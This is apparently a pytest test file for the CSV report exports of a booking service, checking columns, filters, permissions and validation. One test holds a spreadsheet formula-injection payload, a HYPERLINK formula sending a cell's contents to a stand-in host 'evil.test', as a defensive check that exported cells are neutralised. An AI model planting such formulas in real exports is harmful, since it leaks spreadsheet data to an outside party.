"""`/api/v1/reports/bookings.csv` and `links.csv`: the lists as tables for spreadsheets."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

import pytest
import time_machine

from tests.support.api.calling import CARLA, answered, created, somebody
from tests.support.factories import NOW

if TYPE_CHECKING:
    from tests.support.api.calling import Api
    from tests.support.api.deployment import Clock, Deployment


async def rows(api: Api, name: str, **query: object) -> list[dict[str, str]]:
    """The rows of a table by its columns."""
    reply = await api.call("GET", f"/reports/{name}.csv", query=query)
    assert (reply.status, reply.headers["Content-Type"]) == (200, "text/csv; charset=utf-8"), reply
    assert reply.headers["Content-Disposition"] == f'attachment; filename="{name}.csv"'
    return list(csv.DictReader(io.StringIO(reply.text)))


async def ids(api: Api, name: str, **query: object) -> list[str]:
    """The ids of a table's rows."""
    return [row["id"] for row in await rows(api, name, **query)]


@pytest.fixture
async def page(admin: Api) -> Any:
    """A page with one event type, which asks for the company."""
    form = [{"id": "company", "label": "Company", "kind": "text", "required": False}]
    return await admin.new_page(await admin.new_event_type(), form=form)


@pytest.fixture
def days(clock: Clock, page: Any) -> list[str]:
    """Starts that are offered: at ten o'clock in Paris on the next Thursday, Friday and Monday."""
    assert clock.now == NOW
    assert page
    return ["2026-11-19T09:00:00Z", "2026-11-20T09:00:00Z", "2026-11-23T09:00:00Z"]


async def test_a_booking_is_a_row_with_names_beside_ids(
    admin: Api, customer: Api, page: Any, days: list[str]
) -> None:
    link = await admin.new_link(page)
    booking = await customer.booked(
        link["code"], days[0], notes='Call "me",\nplease', answers={"company": "Éxample; Ltd"}
    )
    [row] = await rows(admin, "bookings")
    assert row == {
        "id": booking["id"],
        "status": "scheduled",
        "start": "2026-11-19T09:00:00Z",
        "end": "2026-11-19T09:30:00Z",
        "timezone": "Europe/Paris",
        "name": "Carla Customer",
        "email": "carla@customer.test",
        "guests": "",
        "event_type": page["event_types"][0],
        "event_type_name": "Half an hour",
        "page": page["id"],
        "page_title": "Talk to Hanna",
        "hosts": admin.user,
        "host_names": "Alex Admin",
        "link": link["id"],
        "created_at": "2026-11-18T11:06:40Z",
        "reschedules": "0",
        "notes": 'Call "me",\nplease',
        "answers": "company: Éxample; Ltd",
    }


async def test_a_link_is_a_row_with_names_beside_ids(
    admin: Api, customer: Api, page: Any, days: list[str]
) -> None:
    link = await admin.new_link(page, person=CARLA, note="From the fair", channel="extension")
    booking = await customer.booked(link["code"], days[0])
    [row] = await rows(admin, "links")
    fetched = row.pop("fetched_at")
    assert fetched in {"", "2026-11-18T11:06:40Z"}
    assert row == {
        "id": link["id"],
        "status": "booked",
        "url": link["url"],
        "created_at": "2026-11-18T11:06:40Z",
        "created_by": admin.user,
        "created_by_name": "Alex Admin",
        "channel": "extension",
        "page": page["id"],
        "page_title": "Talk to Hanna",
        "event_type": "",
        "event_type_name": "",
        "name": "Carla Customer",
        "email": "carla@customer.test",
        "note": "From the fair",
        "opened_at": "",
        "expires_at": "2027-02-16T11:06:40Z",
        "revoked_at": "",
        "bookings": booking["id"],
    }


async def test_names_of_deleted_records_are_empty(admin: Api, page: Any) -> None:
    await admin.new_link(page)
    assert (await admin.delete(f"/booking-pages/{page['id']}", confirm="1")).status == 204
    [row] = await rows(admin, "links")
    assert (row["page"], row["page_title"], row["status"]) == (page["id"], "", "unavailable")


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", " =", "＝"])
async def test_no_cell_is_a_formula(admin: Api, page: Any, sign: str) -> None:
    note = f'{sign}HYPERLINK("https://evil.test/"&A1)'
    await admin.new_link(page, note=note)
    [row] = await rows(admin, "links")
    assert row["note"] in {f"'{note}", f"'{note.strip()}"}


async def test_bookings_are_selected_by_days_of_their_start_in_the_reporting_zone(
    admin: Api, customer: Api, page: Any, days: list[str], deployment: Deployment
) -> None:
    made = [(await customer.booked(page["slug"], day, email=somebody()))["id"] for day in days]
    assert await ids(admin, "bookings") == made[::-1]
    assert await ids(admin, "bookings", **{"from": "2026-11-20"}) == [made[2], made[1]]
    assert await ids(admin, "bookings", to="2026-11-19") == [made[0]]
    between = {"from": "2026-11-20", "to": "2026-11-20"}
    assert await ids(admin, "bookings", **between) == [made[1]]
    await deployment.change_settings(reporting_timezone="Pacific/Kiritimati")  # 14 hours before UTC
    assert await ids(admin, "bookings", **between) == [made[1]]
    late = {"start": "2026-11-19T15:00:00Z", "email": somebody()}
    after_ten_there = (await customer.booked(page["slug"], **late))["id"]
    assert await ids(admin, "bookings", **between) == [made[1], after_ten_there]


async def test_bookings_have_the_filters_of_their_list(
    admin: Api, customer: Api, page: Any, days: list[str]
) -> None:
    first = await customer.booked(page["slug"], days[0], name="Dora Dent", email="dora@customer.test")
    other = await admin.new_page(await admin.new_event_type())
    second = await customer.booked(other["slug"], days[2])
    answered(await admin.post(f"/bookings/{first['id']}/cancel"))
    assert await ids(admin, "bookings", status="cancelled") == [first["id"]]
    assert await ids(admin, "bookings", page=other["id"]) == [second["id"]]
    assert await ids(admin, "bookings", q="dora") == [first["id"]]
    assert await ids(admin, "bookings", host="nobody") == []
    assert await ids(admin, "bookings", event_type=other["event_types"][0]) == [second["id"]]
    assert await ids(admin, "bookings", domain="CUSTOMER.test") == [second["id"], first["id"]]
    assert await ids(admin, "bookings", domain="test") == []


async def test_links_are_selected_by_days_of_their_creation(admin: Api, page: Any, clock: Clock) -> None:
    made = []
    for _ in range(3):
        with time_machine.travel(clock.now, tick=False):  # lists are in the order of the machine's clock
            made.append((await admin.new_link(page, person=CARLA))["id"])
        clock.forward(days=1)
    assert await ids(admin, "links") == made[::-1]
    for query in ({}, {"page": page["id"]}, {"created_by": admin.user}, {"q": "carla"}):
        assert await ids(admin, "links", **{"from": "2026-11-19"}, **query) == made[:0:-1]
        assert await ids(admin, "links", to="2026-11-18", **query) == made[:1]
        assert await ids(admin, "links", **{"from": "2026-11-19", "to": "2026-11-19"}, **query) == [made[1]]


async def test_links_have_the_filters_of_their_list(admin: Api, member: Api, page: Any) -> None:
    revoked = await admin.new_link(page, person={"name": "Dora Dent", "email": "dora@customer.test"})
    answered(await admin.post(f"/links/{revoked['id']}/revoke"))
    mine = await member.new_link(page)
    assert await ids(admin, "links", status="revoked") == [revoked["id"]]
    assert await ids(admin, "links", created_by=member.user) == [mine["id"]]
    assert await ids(admin, "links", q="dora") == [revoked["id"]]
    assert await ids(admin, "links", page="other") == []
    assert await ids(admin, "links", domain="customer.test") == [revoked["id"]]
    assert await ids(admin, "links", channel="extension") == []
    assert await ids(admin, "links", channel="api", event_type="other") == []
    assert (await admin.get("/links", domain="customer.test")).ids == [revoked["id"]]


async def test_a_table_is_longer_than_one_part_of_the_list(admin: Api, page: Any) -> None:
    people = [{"name": f"Carla {n}", "email": f"carla{n}@customer.test"} for n in range(450)]
    made = created(await admin.post("/links/batch", {"page": page["id"], "people": people}))["items"]
    found = await ids(admin, "links")
    assert sorted(found) == sorted(link["id"] for link in made)
    listed = [link["id"] for link in answered(await admin.get("/links", limit=200))["items"]]
    assert found[:200] == listed


async def test_members_see_in_tables_what_lists_show_them(
    admin: Api, member: Api, customer: Api, deployment: Deployment, page: Any, days: list[str]
) -> None:
    link = await admin.new_link(page)
    booking = await customer.booked(link["code"], days[0])
    [row] = await rows(member, "links")
    assert (row["id"], row["url"], row["bookings"]) == (link["id"], "", "")
    assert await ids(member, "bookings") == []
    await deployment.change_settings(members_see="all")
    [row] = await rows(member, "links")
    assert (row["url"], row["bookings"]) == (link["url"], booking["id"])
    assert await ids(member, "bookings") == [booking["id"]]


async def test_a_key_that_may_only_read_gets_no_addresses_of_links(
    admin: Api, deployment: Deployment, page: Any
) -> None:
    await admin.new_link(page)
    made = created(await admin.new_key(scopes=["reports:read"]))
    [row] = await rows(type(admin)(deployment.http, deployment.url, made["key"]), "links")
    assert row["url"] == ""


@pytest.mark.parametrize("name", ["bookings", "links"])
async def test_wrong_queries_are_refused_before_anything_is_sent(admin: Api, name: str) -> None:
    for query, field in (
        ({"from": "2025-11-17", "to": "2026-11-18"}, "to"),
        ({"from": "2026-11-18", "to": "2026-11-17"}, "to"),
        ({"from": "1999-12-31"}, "from"),
        ({"status": "asleep"}, "status"),
        ({"limit": 1}, "limit"),
    ):
        reply = await admin.call("GET", f"/reports/{name}.csv", query=query)
        assert (reply.status, reply.body["errors"][0]["field"]) == (422, field)


@pytest.mark.parametrize("name", ["summary", "bookings", "links"])
async def test_head_answers_the_headers_alone(admin: Api, name: str) -> None:
    reply = await admin.call("HEAD", f"/reports/{name}.csv")
    assert (reply.status, reply.text) == (200, "")
    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert (await admin.get(f"/reports/{name}.csv")).status == 200
